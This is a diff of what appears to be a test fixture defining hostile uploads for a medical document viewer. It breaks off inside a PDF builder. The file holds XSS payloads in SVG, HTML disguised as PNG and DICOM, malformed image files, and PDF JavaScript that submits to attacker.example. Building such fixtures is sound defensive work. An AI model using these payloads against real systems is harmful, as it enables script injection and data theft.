@@ -1,49 +1,26 @@
-import { mkdirSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
-
 const SCRIPT = "<script>window.top.document.title = 'OWNED'</script>";
 
-/** Files of an attacker, written into folders of their own. Gives the folders by name. */
-export function writeHostileFiles(root) {
-  const folders = {};
-  const put = (folder, name, content) => {
-    folders[folder] = join(root, folder);
-    mkdirSync(folders[folder], { recursive: true });
-    writeFileSync(join(folders[folder], name), content);
-  };
-  put(
-    'svg',
-    'drawing.svg',
+/** What an attacker puts into reports, by the names of the files. */
+export const HOSTILE_FILES: Readonly<Record<string, Buffer>> = {
+  'drawing.svg': Buffer.from(
     `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='OWNED'">${SCRIPT}</svg>`,
-  );
-  put(
-    'html-png',
-    'picture.png',
+  ),
+  'picture.png': Buffer.from(
     `<!doctype html><body>${SCRIPT}<img src=x onerror="document.title='OWNED'">`,
-  );
-  put('html', 'letter.html', `<!doctype html><body>${SCRIPT}`);
-  put('pdf', 'letter.pdf', scriptedPdf());
-  put(
-    'broken-png',
-    'broken.png',
-    Buffer.from('\x89PNG\r\n\x1a\n and then nothing of the kind', 'latin1'),
-  );
-  put(
-    'broken-dicom',
-    'broken.dcm',
-    Buffer.concat([
-      Buffer.alloc(128),
-      Buffer.from('DICM'),
-      Buffer.from(`\x08\0\x70\0UT\0\0\xf0\xff\xff\xff${SCRIPT}`, 'latin1'),
-    ]),
-  );
-  put('html-dicom', 'page.dcm', `<!doctype html><body>${SCRIPT}`);
-  put('text', 'notes.txt', 'Hämoglobin 14 g/dl\nLeukocytes 6.1 G/l\n');
-  return folders;
-}
+  ),
+  'page.html': Buffer.from(`<!doctype html><body>${SCRIPT}`),
+  'object.dcm': Buffer.from(`<!doctype html><body>${SCRIPT}`),
+  'document.pdf': Buffer.from(scriptedPdf(), 'latin1'),
+  'broken picture.png': Buffer.from('\x89PNG\r\n\x1a\n and then nothing of the kind', 'latin1'),
+  'broken object.dcm': Buffer.concat([
+    Buffer.alloc(128),
+    Buffer.from('DICM'),
+    Buffer.from(`\x08\0\x70\0UT\0\0\xf0\xff\xff\xff${SCRIPT}`, 'latin1'),
+  ]),
+};
 
 /** Opens with a script, launches a program by a link, asks for a site by another one. */
-function scriptedPdf() {
+function scriptedPdf(): string {
   const stream = 'BT /F1 24 Tf 72 700 Td (Discharge letter) Tj ET';
   const objects = [
     "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://attacker.example/'\\)) >> /AA << /WC << /S /JavaScript /JS (app.alert\\(2\\)) >> >> >>",
